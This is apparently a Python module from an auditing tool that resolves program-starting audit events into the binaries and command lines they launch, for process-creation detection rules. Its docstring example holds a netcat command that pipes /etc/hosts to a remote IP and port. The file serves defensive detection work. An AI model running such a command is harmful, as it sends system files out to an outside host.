"""What an event that starts a program starts: the binaries and the command lines, as rules for new processes ask.

    >>> find_child("os.system", ["cat /etc/hosts | nc 192.0.2.1 4444"])
    Child(images=('/bin/sh', '/usr/bin/cat', '/usr/bin/nc'), commands=('sh -c cat /etc/hosts | nc …', 'cat …', 'nc …'))

One event can stand for several new processes: a shell, and what the shell starts. A program that was named without
a directory is looked for in PATH by whoever starts it; which one that is is not known afterwards, so it stands here
below /usr/bin, as rules for Linux expect it.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any, NamedTuple

from pythonaudit.journal.fields import text_of
from pythonaudit.query.commands import SHELLS, Command, shell_commands, shell_text, unwrap

_SHELL = "/bin/sh"
_BIN = "/usr/bin/"
_MOST = 64
# Where the program and the words stand among the arguments.
_PLACES = {
    "_posixsubprocess.fork_exec": (0, 1),
    "os.exec": (0, 1),
    "os.posix_spawn": (0, 1),
    "os.spawn": (1, 2),
    "subprocess.Popen": (0, 1),
    "pty.spawn": (-1, 0),
}
#: The events that start a program.
EVENTS = (*_PLACES, "os.system")


class Child(NamedTuple):
    """What is started.

    Attributes:
        images: paths of the programs, the one that is started first in front.
        commands: their command lines, words with spaces between.
    """

    images: tuple[str, ...] = ()
    commands: tuple[str, ...] = ()


def find_child(event: str, values: Sequence[Any]) -> Child:
    """What an event starts.

    Args:
        event: its name.
        values: its arguments, decoded.
    """
    if event == "os.system":
        text = text_of(values[0]) if values else None
        return Child() if text is None else _describe(_SHELL, ("sh", "-c", text))
    at_program, at_words = _PLACES.get(event, (-1, -1))
    words = _words(values[at_words]) if 0 <= at_words < len(values) else ()
    program = _words(values[at_program]) if 0 <= at_program < len(values) else ()
    return _describe(program[0] if program else words[0] if words else "", words)


def _describe(program: str, words: tuple[str, ...]) -> Child:
    images: list[str] = []
    commands: list[str] = []
    waiting = [Command(words, program)] if program else []
    while waiting and len(images) < _MOST:
        command = waiting.pop(0)
        images.append(_resolve(command.executable))
        commands.append(" ".join(command.words))
        inner = unwrap(command)
        if inner is not None:
            waiting.append(inner)
        text = shell_text(command.words) if command.name in SHELLS else None
        waiting += (Command(some) for some, _ in shell_commands(text or "") if some[0])
    return Child(tuple(images), tuple(commands))


def _words(value: Any) -> tuple[str, ...]:
    """The words of a command, or of one text that is the whole of it."""
    if isinstance(value, list):
        return tuple(word for word in map(text_of, value) if word is not None)
    text = text_of(value)
    return () if text is None else (text,)


def _resolve(program: str) -> str:
    return program if "/" in program else _BIN + program
